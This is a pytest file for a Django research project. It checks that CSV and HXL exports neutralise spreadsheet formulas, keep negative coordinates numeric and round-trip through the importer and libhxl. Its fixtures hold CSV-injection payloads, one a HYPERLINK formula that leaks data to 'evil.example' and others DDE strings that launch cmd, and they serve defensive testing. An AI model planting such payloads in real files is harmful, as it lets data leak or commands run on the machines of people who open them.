"""The public research exports go through the one CSV writer: formulas neutralised, numbers kept, HXL still HXL
(read back by the project's importer and by libhxl, the HXL standard's library), a safe file name."""

from __future__ import annotations

import csv
import io
from datetime import date

import hxl
import pytest
from django.urls import reverse

from coalition.core.audit import Actor
from coalition.lib.tests.helpers import saved_name
from coalition.research import importing
from coalition.research.models import Casualty, Status
from coalition.research.tests.factories import CasualtyFactory, SourceFactory, StrikeFactory
from coalition.states.tests.factories import StateFactory

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Details")'
DDE = "-2+3+cmd|' /C calc'!A0"


@pytest.fixture
def sierra_leone(states):
    return StateFactory(iso3="SLE")


@pytest.fixture
def hostile_casualty(sierra_leone):
    """Typed by a researcher (or imported): text that a spreadsheet would run; west of Greenwich, so negative."""
    return CasualtyFactory(
        state=sierra_leone,
        date=date(2020, 3, 4),
        latitude=8.48,
        longitude=-13.23,
        activity=FORMULA,
        place_name="@SUM(1+1)",
        admin_area=DDE,
        source=SourceFactory(title="+cmd|' /C notepad'!A0"),
    )


def _export(client, kind: str, fmt: str) -> str:
    response = client.get(reverse("research:export"), {"kind": kind, "format": fmt})
    assert response.status_code == 200
    return b"".join(response.streaming_content).decode()


@pytest.mark.parametrize("fmt", ["csv", "hxl"])
def test_a_formula_in_a_casualty_comes_out_neutralised_and_a_negative_longitude_stays_a_number(
    client, hostile_casualty, fmt
):
    rows = list(csv.DictReader(io.StringIO(_export(client, "casualty", fmt))))

    row = rows[-1]
    assert row["activity"] == "'" + FORMULA
    assert row["place"] == "'@SUM(1+1)"
    assert row["admin_area"] == "'" + DDE
    assert row["source"] == "'+cmd|' /C notepad'!A0"
    assert (row["latitude"], row["longitude"]) == ("8.48", "-13.23")


def test_a_formula_in_a_strike_comes_out_neutralised(client, sierra_leone):
    StrikeFactory(state=sierra_leone, munition_type="=1+1", party_responsible="@cmd", longitude=-12.5)

    [row] = csv.DictReader(io.StringIO(_export(client, "strike", "csv")))

    assert (row["munition_type"], row["party_responsible"], row["longitude"]) == ("'=1+1", "'@cmd", "-12.5")


def test_the_hxl_export_keeps_its_tag_row_and_imports_back_with_the_projects_importer(client, hostile_casualty):
    exported = _export(client, "casualty", "hxl")
    assert exported.splitlines()[1].startswith("#meta+id,#country+code,#date+occurred,#date+end,#loc+name")
    Casualty.objects.all().delete()

    report = importing.casualties_import(handle=io.StringIO(exported), dry_run=False, approve=True, by=Actor.SYSTEM)

    assert report.hxl and report.imported == 1 and report.error_count == 0
    back = Casualty.objects.get()
    assert (back.state_id, back.date, back.latitude, back.longitude) == ("SLE", date(2020, 3, 4), 8.48, -13.23)
    assert back.activity == "'" + FORMULA and back.status == Status.APPROVED


def test_the_hxl_export_reads_with_libhxl(client, hostile_casualty):
    exported = _export(client, "casualty", "hxl")

    dataset = hxl.data(io.BytesIO(exported.encode()))
    tags = [column.display_tag for column in dataset.columns]
    [row] = list(dataset)

    assert tags[:3] == ["#meta+id", "#country+code", "#date+occurred"]
    assert "#geo+lat" in tags and "#affected+killed" in tags
    assert (row.get("#country+code"), row.get("#geo+lon"), row.get("#affected+killed")) == ("SLE", "-13.23", "1")
    assert row.get("#affected+activity") == "'" + FORMULA


@pytest.mark.parametrize(("fmt", "extension"), [("csv", ".csv"), ("hxl", ".hxl.csv"), ("geojson", ".geojson")])
def test_an_export_downloads_under_its_own_name(client, hostile_casualty, fmt, extension):
    response = client.get(reverse("research:export"), {"kind": "casualty", "format": fmt})

    name = saved_name(response)
    assert name.startswith("casualty-") and name.endswith(extension)
